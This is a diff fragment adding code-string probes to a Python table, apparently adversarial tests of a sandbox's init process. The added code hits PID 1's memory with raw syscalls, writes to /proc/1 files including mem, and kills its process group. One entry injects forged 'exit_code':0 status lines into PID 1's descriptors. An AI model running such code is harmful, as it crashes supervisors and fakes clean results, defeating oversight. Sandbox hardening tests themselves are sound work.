@@ -62,6 +62,24 @@ _WEIGHTS = {
         "at(os.setpriority, os.PRIO_USER, os.getuid(), 19)"
     ),
     "memory": "at(lambda: open('/proc/1/oom_score_adj', 'w').write('1000'))",
+    "memory/pages": (
+        "fd = at(os.pidfd_open, 1) or -1\nwhole = (ctypes.c_ulong * 2)(0, 1 << 47)\n"
+        "for advice in (4, 20, 21): at(libc.syscall, 440, fd, whole, 1, advice, 0)\n"
+        "at(libc.syscall, 448, fd, 0)\nat(libc.syscall, 256, 1, 64, whole, whole)\n"
+        "at(libc.syscall, 279, 1, 1, whole, whole, whole, 2)"
+    ),
+    "files": (
+        "for name in ('clear_refs', 'timerslack_ns', 'coredump_filter', 'autogroup', 'comm', 'attr/current', 'mem'):\n"
+        "    at(lambda: open(f'/proc/1/{name}', 'w').write('1'))"
+    ),
+    "descriptors": (
+        'said = b\'{"wait_status":0}\\n{"exit_code":0}\\n\'\n'
+        "for fd in range(64): at(lambda: os.write(os.open(f'/proc/1/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK), said))"
+    ),
+    "groups": (
+        "at(os.setpgid, 1, 1)\nat(os.setpgid, 1, os.getpid())\nat(os.killpg, 1, 9)\n"
+        "for n in range(3): at(os.tcsetpgrp, n, 1)"
+    ),
 }
 _AT_THE_FIRST = (
     "import ctypes, os, resource, signal, sys, time\n"
